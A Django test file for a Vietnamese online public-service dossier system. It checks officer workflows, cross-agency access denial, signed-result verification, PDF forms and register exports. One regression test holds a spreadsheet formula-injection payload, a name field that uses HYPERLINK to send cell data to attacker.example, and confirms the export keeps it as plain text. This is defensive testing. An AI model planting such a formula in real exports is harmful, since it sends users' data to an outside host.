"""The officers' pages, as officers and citizens use them."""

import datetime as dt
import io
import re
import shutil
import subprocess
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from conftest import run_tasks
from dvc.accounts.tests.factories import UserFactory
from dvc.catalog.models import Procedure
from dvc.dossiers.backoffice.appraisal import (
    dossier_assign,
    dossier_generate_result,
    dossier_propose,
    dossier_request_supplement,
)
from dvc.dossiers.backoffice.decision import dossier_approve
from dvc.dossiers.backoffice.intake import dossier_receive
from dvc.dossiers.documents.receipt import receipt_pdf
from dvc.dossiers.models import Dossier, IssuedResult
from dvc.dossiers.tests.factories import RESULT_VALUES, DossierFactory, agency_staff, commune_centre, photo_upload

pytestmark = pytest.mark.django_db


@pytest.fixture
def office():
    agency = commune_centre(name="Trung tâm PVHCC phường Ba Đình")
    return agency, agency_staff(agency)


def test_the_whole_journey_through_the_pages(client, office, submitted_dossier, outbox, tasks):
    agency, staff = office
    citizen = UserFactory(full_name="Nguyễn Văn An", phone="+84912345678")
    dossier = submitted_dossier(citizen, agency=agency)
    act = lambda name: reverse("staff:act", args=[dossier.pk, name])  # noqa: E731
    detail = reverse("staff:detail", args=[dossier.pk])
    # The one-stop officer sees it among new dossiers, opens it, asks for a clearer photo.
    client.force_login(staff.officer)
    queue = client.get(reverse("staff:queue") + "?hang=moi").content.decode()
    assert dossier.code in queue and "Nguyễn Văn An" in queue
    page = client.get(detail).content.decode()
    assert "Tiếp nhận hồ sơ" in page and citizen.id_number in page
    identity = dossier.procedure.requirements.get(name__startswith="Giấy tờ tùy thân")
    response = client.post(act("yeu-cau-bo-sung"), {"requirements": [identity.pk], "note": "Ảnh chụp CCCD bị mờ."})
    assert response.status_code == 302
    # The citizen replaces the photo and sends the supplement.
    client.force_login(citizen)
    client.post(reverse("dossiers:upload", args=[dossier.pk]), {"requirement": identity.pk, "file": photo_upload()})
    page = client.get(reverse("dossiers:submit", args=[dossier.pk])).content.decode()
    key = re.search(r'name="idempotency_key" value="([^"]+)"', page).group(1)
    client.post(
        reverse("dossiers:submit", args=[dossier.pk]),
        {"idempotency_key": key},
    )
    dossier.refresh_from_db()
    assert dossier.status == Dossier.Status.SUBMITTED
    # The officer receives it and assigns the specialist.
    client.force_login(staff.officer)
    page = client.post(act("tiep-nhan"), follow=True).content.decode()
    assert "Đã tiếp nhận hồ sơ" in page
    client.post(act("giao"), {"specialist": staff.specialist.pk})
    # The specialist drafts the result from the template and proposes it.
    client.force_login(staff.specialist)
    assert dossier.code in client.get(reverse("staff:queue") + "?hang=duoc-giao").content.decode()
    client.post(act("tao-du-thao"), {"r-tinh_trang_hon_nhan": "Chưa đăng ký kết hôn với ai."})
    client.post(act("de-xuat"), {"decision": "approve", "note": "Đủ điều kiện."})
    # The leader reads the final copy, then signs it.
    client.force_login(staff.leader)
    assert dossier.code in client.get(reverse("staff:queue") + "?hang=cho-duyet").content.decode()
    page = client.post(act("xem-ban-cuoi"), follow=True).content.decode()
    assert "Đang lập bản cuối của kết quả" in page and 'http-equiv="refresh"' in page  # the worker draws it
    run_tasks()
    page = client.get(reverse("staff:detail", args=[dossier.pk])).content.decode()
    sha = re.search(r'name="final_sha256" value="([0-9a-f]{64})"', page)
    assert sha, "the final copy is shown before signing"
    page = client.post(act("phe-duyet"), {"final_sha256": sha.group(1)}, follow=True).content.decode()
    assert "Đang ký số và ban hành kết quả" in page and 'http-equiv="refresh"' in page  # the worker signs
    run_tasks()
    page = client.get(reverse("staff:detail", args=[dossier.pk])).content.decode()
    assert "Đang ký số" not in page and 'http-equiv="refresh"' not in page
    # The officer returns it online.
    client.force_login(staff.officer)
    client.post(act("tra-ket-qua"), {"method": "online"})
    dossier.refresh_from_db()
    assert dossier.status == Dossier.Status.RETURNED
    # The citizen downloads it and rates the service.
    client.force_login(citizen)
    result = client.get(reverse("dossiers:result", args=[dossier.pk]))
    assert result.status_code == 200 and b"".join(result.streaming_content).startswith(b"%PDF")
    client.post(
        reverse("dossiers:rate", args=[dossier.pk]),
        {"overall": "5", "timeliness": "5", "attitude": "4", "publicity": "5", "trips": "0", "comment": ""},
    )
    assert dossier.rating.overall == 5
    page = client.get(reverse("dossiers:detail", args=[dossier.pk])).content.decode()
    for step in (
        "Yêu cầu bổ sung",
        "Gửi bổ sung",
        "Tiếp nhận hồ sơ",
        "Đang thẩm định hồ sơ",
        "Đã có kết quả, lãnh đạo đã ký số",
        "Trả kết quả",
    ):
        assert step in page
    tasks()
    bodies = " ".join(m["body"] for m in outbox.sms())
    for told in ("cần bổ sung", "đã được Trung tâm PVHCC phường Ba Đình tiếp nhận", "đã có kết quả", "đã được trả"):
        assert told in bodies


def test_another_agencys_officer_gets_403_everywhere_and_citizens_get_403(client, office, submitted_dossier):
    agency, _staff = office
    dossier = submitted_dossier(UserFactory(), agency=agency)
    stranger = agency_staff(commune_centre(code="000.02.02.H26")).leader
    client.force_login(stranger)
    assert client.get(reverse("staff:detail", args=[dossier.pk])).status_code == 403
    for action in ("tiep-nhan", "yeu-cau-bo-sung", "tu-choi", "dung", "giao", "de-xuat", "phe-duyet", "tra-ket-qua"):
        assert client.post(reverse("staff:act", args=[dossier.pk, action]), {"reason": "x"}).status_code == 403
    assert client.get(reverse("staff:document", args=[dossier.pk, "mau-06"])).status_code == 403
    listed = client.post(reverse("staff:queue"), {"hang": "tat-ca", "q": dossier.code}, follow=True).content.decode()
    assert f"/can-bo/ho-so/{dossier.pk}/" not in listed and "Không có hồ sơ nào." in listed
    client.force_login(dossier.applicant)
    for url in (reverse("staff:queue"), reverse("staff:detail", args=[dossier.pk]), reverse("staff:intake")):
        assert client.get(url).status_code == 403
    dossier.refresh_from_db()
    assert dossier.status == Dossier.Status.SUBMITTED


def test_odd_digits_in_a_list_of_papers_are_ignored_not_a_server_error(client, office, submitted_dossier):
    """ "²" passes str.isdigit() but not int(): found by review of the action registry."""
    agency, staff = office
    dossier = submitted_dossier(UserFactory(), agency=agency)
    client.force_login(staff.officer)
    for action in ("tiep-nhan", "yeu-cau-bo-sung"):
        response = client.post(reverse("staff:act", args=[dossier.pk, action]), {"requirements": ["²"], "note": "x"})
        assert response.status_code in (302, 422)


def test_the_dossier_page_does_not_show_colleagues_id_numbers(client, office, submitted_dossier):
    agency, staff = office
    dossier = dossier_receive(dossier=submitted_dossier(UserFactory(), agency=agency), actor=staff.officer)
    client.force_login(staff.officer)
    html = client.get(reverse("staff:detail", args=[dossier.pk])).content.decode()
    assert staff.specialist.full_name in html and staff.specialist.id_number not in html


def test_a_refused_input_keeps_what_the_officer_typed(client, office, submitted_dossier):
    agency, staff = office
    dossier = submitted_dossier(UserFactory(), agency=agency)
    client.force_login(staff.officer)
    response = client.post(reverse("staff:act", args=[dossier.pk, "tu-choi"]), {"reason": "   "})
    assert response.status_code == 422
    assert "Vui lòng ghi rõ lý do." in response.content.decode()
    response = client.post(
        reverse("staff:act", args=[dossier.pk, "gia-han"]), {"reason": "Chờ xác minh dài", "new_due": "hôm qua"}
    )
    assert response.status_code == 422
    dossier.refresh_from_db()
    assert dossier.status == Dossier.Status.SUBMITTED


def test_the_queue_costs_the_same_queries_for_3_or_30_dossiers(client, office, submitted_dossier):
    agency, staff = office
    client.force_login(staff.officer)
    url = reverse("staff:queue") + "?hang=tat-ca"
    for n in range(3):
        submitted_dossier(UserFactory(), agency=agency, key=f"a{n}")
    client.get(url)  # warm the session and caches
    with CaptureQueriesContext(connection) as few:
        assert client.get(url).status_code == 200
    from dvc.accounts.services import api_token_create

    api = {"HTTP_AUTHORIZATION": f"Bearer {api_token_create(user=staff.officer)}"}
    client.get("/api/v1/backoffice/dossiers?queue=tat-ca", **api)
    with CaptureQueriesContext(connection) as few_api:
        assert client.get("/api/v1/backoffice/dossiers?queue=tat-ca", **api).status_code == 200
    for n in range(27):
        dossier = submitted_dossier(UserFactory(), agency=agency, key=f"b{n}")
        if n % 3 == 0:
            dossier_receive(dossier=dossier, actor=staff.officer)
        if n % 9 == 0:
            dossier_assign(dossier=dossier, actor=staff.leader, specialist=staff.specialist)
    with CaptureQueriesContext(connection) as many:
        html = client.get(url).content.decode()
    assert html.count("/can-bo/ho-so/") == 30
    assert html.count(staff.specialist.full_name) >= 3
    assert len(many) == len(few)
    with CaptureQueriesContext(connection) as many_api:
        rows = client.get("/api/v1/backoffice/dossiers?queue=tat-ca", **api).json()["results"]
    assert len(rows) == 30 and sum(r["assigned_to"] == staff.specialist.full_name for r in rows) == 3
    assert len(many_api) == len(few_api)


def test_queue_filters_by_code_name_and_id_number(client, office, submitted_dossier):
    agency, staff = office
    an = submitted_dossier(UserFactory(full_name="Nguyễn Văn An", id_number="001085012345"), agency=agency, key="1")
    binh = submitted_dossier(UserFactory(full_name="Trần Thị Bình"), agency=agency, key="2")
    client.force_login(staff.officer)
    for query in (an.code, "văn an", "001085012345"):
        response = client.post(reverse("staff:queue"), {"hang": "tat-ca", "q": query}, follow=True)
        html = response.content.decode()
        assert an.code in html and binh.code not in html
        # Issue 15 (low): the term waits in the session; the address the officer lands on carries no part of it.
        assert response.redirect_chain[-1][0] == reverse("staff:queue") + "?hang=tat-ca&tim=1"
        assert f'value="{query}"' in html
        # The next page of results and other filters keep the search without naming it.
        assert an.code in client.get(reverse("staff:queue") + "?hang=tat-ca&tim=1&trang=1").content.decode()


def test_an_id_number_typed_into_the_address_is_moved_out_of_it(client, office, submitted_dossier):
    """Issue 15 (low): ``?q=<CCCD>`` put personal id numbers in access logs; an old link now redirects without it."""
    agency, staff = office
    an = submitted_dossier(UserFactory(id_number="001085012345"), agency=agency)
    client.force_login(staff.officer)
    response = client.get(reverse("staff:queue") + "?hang=tat-ca&q=001085012345")
    assert response.status_code == 302 and "001085012345" not in response["Location"]
    assert an.code in client.get(response["Location"]).content.decode()
    cleared = client.post(reverse("staff:queue"), {"hang": "tat-ca", "q": ""})
    assert "tim" not in cleared["Location"]


def test_an_online_dossier_left_8_working_hours_is_flagged(client, office):
    agency, staff = office
    DossierFactory(submitted=True, agency=agency, sent_at=timezone.now() - dt.timedelta(days=5))
    client.force_login(staff.officer)
    assert "Quá 8 giờ làm việc chưa tiếp nhận" in client.get(reverse("staff:queue")).content.decode()


def test_forms_and_register_export(client, office, submitted_dossier):
    agency, staff = office
    dossier = submitted_dossier(UserFactory(full_name="Nguyễn Văn An"), agency=agency)
    dossier_receive(dossier=dossier, actor=staff.officer)
    dossier_request_supplement(dossier=dossier, actor=staff.officer, requirements=[], note="Thiếu trang 2")
    client.force_login(staff.officer)
    texts = {}
    for name in ("mau-01", "mau-02", "mau-06"):
        response = client.get(reverse("staff:document", args=[dossier.pk, name]))
        assert response.status_code == 200 and response.content.startswith(b"%PDF"), name
        texts[name] = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages)
    assert "Tiếp nhận lúc" in texts["mau-01"] and "Lê Văn Một Cửa" in texts["mau-01"]
    assert "Thiếu trang 2" in texts["mau-02"] and "không tính vào thời hạn" in texts["mau-02"]
    assert "Tiếp nhận hồ sơ" in texts["mau-06"]
    assert client.get(reverse("staff:document", args=[dossier.pk, "mau-03"])).status_code == 404
    workbook = client.get(reverse("staff:register") + "?xuat=xlsx")
    sheet = load_workbook(io.BytesIO(workbook.content)).active
    assert [c.value for c in sheet[4]][1] == dossier.code and sheet[4][3].value == "Nguyễn Văn An"
    assert client.get(reverse("staff:register") + "?xuat=pdf").content.startswith(b"%PDF")


def test_a_name_that_looks_like_a_formula_stays_text_in_the_excel_register(client, office):
    """Issue 15, finding 7: a citizen named ``=HYPERLINK(...)`` became a live formula in the officers' export."""
    agency, staff = office
    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
    DossierFactory(submitted=True, agency=agency, applicant_data={"full_name": formula})
    DossierFactory(submitted=True, agency=agency, applicant_data={"full_name": "+84 Lê Văn -Cộng"})
    client.force_login(staff.officer)
    workbook = client.get(reverse("staff:register") + "?xuat=xlsx")
    cells = {c.value: c.data_type for row in load_workbook(io.BytesIO(workbook.content)).active for c in row}
    assert cells[formula] == "s" and cells["+84 Lê Văn -Cộng"] == "s"
    raw = zipfile.ZipFile(io.BytesIO(workbook.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in raw


def test_counter_intake_files_a_walk_in_citizens_dossier(client, office, outbox, tasks):
    agency, staff = office
    procedure = Procedure.objects.get(code="1.004873")
    identity = procedure.requirements.get(name__startswith="Giấy tờ tùy thân")
    client.force_login(staff.officer)
    url = reverse("staff:intake") + "?thu_tuc=1.004873"
    assert "Số định danh cá nhân" in client.get(url).content.decode()
    form = {
        "agency": agency.pk,
        "id_number": "001090009999",
        "full_name": "Hoàng Văn Chín",
        "phone": "0987654321",
        "f-nguoi_yeu_cau.full_name": "Hoàng Văn Chín",
        "f-nguoi_yeu_cau.birth_date": "01/01/1990",
        "f-nguoi_yeu_cau.id_number": "001090009999",
        "f-dien_thoai": "0987654321",
        "f-noi_cu_tru.province": "01",
        "f-noi_cu_tru.commune": "00004",
        "f-muc_dich": "Kết hôn",
        "f-cam_doan": "on",
        "result_method": "counter",
    }
    expired = client.post(url, {**form, "id_number": "012345678"})  # issue 16, part 9: a CMND is no longer valid
    assert expired.status_code == 422 and "hết giá trị từ 01/01/2025" in expired.content.decode()
    missing = client.post(url, form)
    assert missing.status_code == 422 and "Chưa quét" in missing.content.decode()
    assert 'value="Hoàng Văn Chín"' in missing.content.decode()
    response = client.post(url, {**form, f"scan-{identity.pk}": photo_upload()})
    dossier = Dossier.objects.get(applicant__id_number="001090009999")
    assert response.url == reverse("staff:detail", args=[dossier.pk])
    assert dossier.status == Dossier.Status.PROCESSING and dossier.channel == Dossier.Channel.COUNTER
    assert dossier.filed_by == staff.officer and dossier.code.startswith(agency.code)
    assert not dossier.applicant.is_active and not dossier.applicant.has_usable_password()
    tasks()
    assert any(m["to"] == "+84987654321" and dossier.code in m["body"] for m in outbox.sms())


def test_counter_intake_without_javascript_lists_the_chosen_provinces_communes(client, office):
    agency, staff = office
    client.force_login(staff.officer)
    url = reverse("staff:intake") + "?thu_tuc=1.004873"
    assert 'name="choose_province"' in client.get(url).content.decode()
    typed = {"agency": agency.pk, "full_name": "Hoàng Văn Chín", "f-noi_cu_tru.province": "01", "choose_province": "1"}
    page = client.post(url, typed)
    assert page.status_code == 200 and not Dossier.objects.filter(applicant__full_name="Hoàng Văn Chín").exists()
    content = page.content.decode()
    assert '<option value="00004"' in content and 'value="Hoàng Văn Chín"' in content
    assert "Vui lòng chọn lại tệp giấy tờ" in content


def _approved(office, submitted_dossier):
    agency, staff = office
    dossier = submitted_dossier(UserFactory(full_name="Nguyễn Văn An"), agency=agency)
    dossier = dossier_receive(dossier=dossier, actor=staff.officer)
    dossier = dossier_assign(dossier=dossier, actor=staff.officer, specialist=staff.specialist)
    dossier = dossier_generate_result(dossier=dossier, actor=staff.specialist, values=RESULT_VALUES)
    dossier = dossier_propose(dossier=dossier, actor=staff.specialist, decision="approve", note="")
    return dossier_approve(dossier=dossier, actor=staff.leader)


def test_the_signed_result_verifies_on_the_public_page_and_with_pdfsig(client, office, submitted_dossier, tmp_path):
    dossier = _approved(office, submitted_dossier)
    issued = IssuedResult.objects.get(dossier=dossier)
    with dossier.result_file.file.open("rb") as handle:
        signed = handle.read()
    page = client.get(reverse("staff:verify", args=[issued.pk])).content.decode()
    assert (
        "Văn bản có chữ ký số hợp lệ" in page and dossier.code in page and "Ủy ban nhân dân phường Ba Đình" in page
    )  # the issuing body
    assert "Nguyễn Văn An" not in page and "001085" not in page
    same = client.post(reverse("staff:verify", args=[issued.pk]), {"file": SimpleUploadedFile("kq.pdf", signed)})
    assert "Tệp trùng khớp với văn bản gốc" in same.content.decode()
    tampered = bytearray(signed)
    position = signed.index(b"/Contents", len(signed) // 3) if b"/Contents" in signed[len(signed) // 3 :] else 200
    tampered[position - 40] ^= 0x01
    changed = client.post(
        reverse("staff:verify", args=[issued.pk]), {"file": SimpleUploadedFile("kq.pdf", bytes(tampered))}
    )
    assert "KHÔNG khớp" in changed.content.decode()
    receipt = SimpleUploadedFile("bien-nhan.pdf", receipt_pdf(dossier, lookup_url="https://dvc.example/tra-cuu/"))
    unsigned = client.post(reverse("staff:verify", args=[issued.pk]), {"file": receipt})
    said = unsigned.content.decode()
    assert "KHÔNG khớp" in said and "chưa có chữ ký số" in said and "ký tờ khai" not in said  # a verifier signs nothing
    if shutil.which("pdfsig"):
        good, bad = tmp_path / "good.pdf", tmp_path / "bad.pdf"
        good.write_bytes(signed)
        bad.write_bytes(bytes(tampered))
        report = subprocess.run(["pdfsig", str(good)], capture_output=True, text=True, check=False).stdout
        assert "Signature is Valid" in report and "Total document signed" in report
        assert "Ủy ban nhân dân phường Ba Đình" in report  # the issuing body, not the centre that received it
        broken = subprocess.run(["pdfsig", str(bad)], capture_output=True, text=True, check=False).stdout
        assert "Signature is Valid" not in broken


def test_the_result_stamp_renders_vietnamese(office, submitted_dossier):
    from pypdf import PdfReader

    dossier = _approved(office, submitted_dossier)
    with dossier.result_file.file.open("rb") as handle:
        reader = PdfReader(handle)
        field = reader.get_fields()["ChuKyCoQuan"]
        assert field is not None
        annotations = [a.get_object() for a in reader.pages[-1].get("/Annots", [])]
        appearance = next(a for a in annotations if a.get("/T") == "ChuKyCoQuan")["/AP"]["/N"].get_object()
        fonts = re.findall(rb"/BaseFont\s*/([A-Za-z+\-]+)", _resources(appearance))
        assert any(b"BeVietnamPro" in f for f in fonts)


def _resources(appearance) -> bytes:
    """The font names used anywhere in the stamp's appearance stream tree."""
    seen = b""
    stack = [appearance]
    while stack:
        obj = stack.pop()
        obj = obj.get_object() if hasattr(obj, "get_object") else obj
        if isinstance(obj, dict):
            for key, value in obj.items():
                if key == "/BaseFont":
                    seen += b"/BaseFont /" + str(value).lstrip("/").encode() + b" "
                else:
                    stack.append(value)
        elif isinstance(obj, list):
            stack.extend(obj)
    return seen


def test_the_audit_log_is_readable_by_system_admins_only(client, office, submitted_dossier):
    agency, staff = office
    dossier = submitted_dossier(UserFactory(), agency=agency)
    client.force_login(staff.officer)
    client.get(reverse("staff:detail", args=[dossier.pk]))
    admin = UserFactory(is_staff=True, is_superuser=True)
    client.force_login(admin)
    page = client.get(reverse("admin:dossiers_auditentry_changelist"))
    assert page.status_code == 200 and dossier.code in page.content.decode()
    staff.leader.is_staff = True  # may open the admin site, but is not a system administrator
    staff.leader.save()
    client.force_login(staff.leader)
    assert client.get(reverse("admin:dossiers_auditentry_changelist")).status_code == 403


def test_the_officer_reads_the_answers_as_on_paper(client, office, submitted_dossier):
    """Issue 17: "Nơi cư trú: 01, 00004, …" (codes), "True" for the declaration, ISO dates."""
    agency, staff = office
    dossier = submitted_dossier(UserFactory(), agency=agency)
    client.force_login(staff.officer)
    html = client.get(reverse("staff:detail", args=[dossier.pk])).content.decode()
    assert "Số 1 Liễu Giai, Phường Ba Đình, Thành phố Hà Nội" in html and "01, 00004" not in html
    assert "sinh ngày 12/03/1985" in html and "1985-03-12" not in html
    assert ">True<" not in html and "<dd>Có</dd>" in html
